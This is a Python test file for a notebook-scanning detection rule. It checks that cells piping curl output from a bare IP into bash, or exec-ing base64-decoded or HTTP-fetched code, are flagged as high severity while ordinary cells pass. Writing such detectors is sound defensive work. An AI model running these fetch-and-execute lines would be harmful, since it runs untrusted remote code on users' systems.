import json

from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.notebook import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


def notebook(*sources: str) -> str:
    return json.dumps(
        {"cells": [{"cell_type": "code", "source": source.splitlines(keepends=True)} for source in sources]}, indent=1
    )


def test_a_shell_cell_from_a_bare_address() -> None:
    text = notebook("import os", "!curl -s http://203.0.113.7/n | bash")
    assert graded("x.ipynb", text) == [(12, Severity.HIGH, Confidence.MEDIUM)]
    assert [g[1] for g in graded("x.ipynb", notebook("%%bash\ncurl -s http://203.0.113.7/n | bash"))] == [Severity.HIGH]


def test_decoded_text_is_executed() -> None:
    text = notebook("import base64\nexec(base64.b64decode('dHJ1ZQ=='))")
    assert [g[1:] for g in graded("x.ipynb", text)] == [(Severity.HIGH, Confidence.HIGH)]


def test_ordinary_cells() -> None:
    text = notebook("!pip install numpy", "!wget https://a.invalid/data.csv", "model.eval()\nbase64.b64decode(x)")
    assert graded("x.ipynb", text) == []


def test_a_name_that_holds_an_answer() -> None:
    text = notebook("import requests\ncode = requests.get('https://a.invalid/u').text\nexec(code)\n")
    assert [g[1:] for g in graded("x.ipynb", text)] == [(Severity.HIGH, Confidence.HIGH)]
    assert graded("x.ipynb", notebook("import requests\nr = requests.get('https://a.invalid/u')\nexec(own)\n")) == []
